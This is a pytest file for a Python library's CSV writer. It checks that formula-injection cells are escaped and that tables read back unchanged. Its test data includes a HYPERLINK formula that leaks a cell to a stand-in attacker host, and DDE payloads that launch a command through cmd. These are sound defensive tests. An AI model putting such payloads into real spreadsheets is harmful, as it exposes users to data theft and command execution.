"""Formulas in CSV tables: what a spreadsheet would run, and that nothing is lost."""

import csv
import io
import itertools
import math
import random
import time

import numpy as np
import pandas as pd
import pytest
from voxslice.files import TEXT, read_csv, write_csv
from voxslice.formulas import escape, restore

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A2,"open")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    # after what a spreadsheet may drop
    "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1"',
    # in full width, and in the middle of a cell
    "\uff1d1+1", "\uff0b1", "happy;=1+1", "happy;\t@SUM(1)", "happy\n=1+1", "happy\r\n-1+1",
    'happy";=1+1;"',
]  # fmt: skip
HARMLESS = ["happy", "-5", "+5.25", "-1e-3", "a=1", "gender = male and age > 31", "'tis", "a@b", ""]
LETTERS = "=+-@\uff1d'\"\t\r\n; ,a1.\u200b\\"


def run_by_spreadsheet(content):
    """Cells that a spreadsheet runs, for each character that may end a cell."""
    run = []
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            for cell in row:
                start = cell.strip().strip("\ufeff\u200b").strip('" \t')
                if start[:1] and start[0] in "=+-@\uff1d\uff0b" and not is_number(start):
                    run.append(cell)
    return run


def is_number(text):
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def is_same(path, table):
    write_csv(table, path)
    pd.testing.assert_frame_equal(read_csv(path), table)
    return True


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("place", ["file", "label", "emotion", "header"])
def test_no_formula_is_run(tmp_path, formula, place):
    """A formula as a file name, a label, a cell of a metadata column, and the name of a column."""
    columns = {"model": "m", "file": ["a.wav", "b.wav"], "label": "x", "emotion": "y"}
    columns["value"] = [0.5, -0.25]
    if place == "header":
        columns[formula] = "z"
    else:
        columns[place] = [formula, "x"]
    table = pd.DataFrame(columns)
    assert run_by_spreadsheet(table.to_csv(index=False))  # the same text as before
    assert is_same(tmp_path / "table.csv", table)
    content = (tmp_path / "table.csv").read_bytes().decode()
    assert run_by_spreadsheet(content) == []
    assert "-0.25" in content  # numbers stay numbers


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert escape(text) == text == restore(text)


@pytest.mark.slow
def test_every_short_text_is_restored():
    """All texts of up to four of these characters, including texts that look escaped already."""
    escaped = {}
    for size in range(5):
        for letters in itertools.product(LETTERS, repeat=size):
            text = "".join(letters)
            cell = escape(text)
            assert restore(cell) == text
            assert escaped.setdefault(cell, text) == text
    assert len(escaped) > 80_000


@pytest.mark.parametrize("seed", range(5))
def test_random_tables_are_read_as_they_were(tmp_path, seed):
    """Keys of utterances, ids, labels and names of columns of any text are read back unchanged."""
    draw = random.Random(seed)
    pieces = [*LETTERS, *FORMULAS, "ümlaut", "声", "0", "None", "nan", "\u202e", "\x1b[31m", "\x85"]

    def text():
        return "x"[: draw.random() < 0.3] + "".join(draw.choices(pieces, k=draw.randint(1, 5)))

    rows = 200
    table = pd.DataFrame(
        {name: [text() for _ in range(rows)] for name in draw.sample(TEXT, 4)}
        | {f"x{text()}": [f"x{text()}" for _ in range(rows)] for _ in range(3)}
        | {"value": np.arange(rows) - 100.5, "count": np.arange(rows)}
    )
    assert is_same(tmp_path / "table.csv", table)
    assert run_by_spreadsheet((tmp_path / "table.csv").read_bytes().decode()) == []


def test_types_and_missing_cells_stay(tmp_path):
    table = pd.DataFrame(
        {
            "label": ["=a", np.nan],
            "note": pd.Series([np.nan, np.nan], dtype=object),
            "value": [np.nan, -1.5],
            "known": [True, False],
        }
    )
    assert is_same(tmp_path / "table.csv", table)
    assert is_same(tmp_path / "table.csv", table.iloc[:0].astype(object))
    categories = table.assign(label=table["label"].astype("category"))
    write_csv(categories, tmp_path / "table.csv")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "table.csv"), table)
    assert isinstance(categories["label"].dtype, pd.CategoricalDtype)


def test_a_nul_does_not_cut_a_table(tmp_path):
    write_csv(pd.DataFrame({"label": ["a\0b", "c"]}), tmp_path / "table.csv")
    assert read_csv(tmp_path / "table.csv")["label"].tolist() == ["a\u2400b", "c"]


def test_escaping_is_quick(tmp_path):
    """Cells that are made to be slow: long runs of characters that may precede a formula."""
    cells = [letter * 20_000 for letter in "' \t;\n="] + ["; ' " * 5_000, "'=" * 10_000]
    table = pd.DataFrame({"label": cells})
    begin = time.process_time()
    assert is_same(tmp_path / "table.csv", table)
    assert time.process_time() - begin < 2
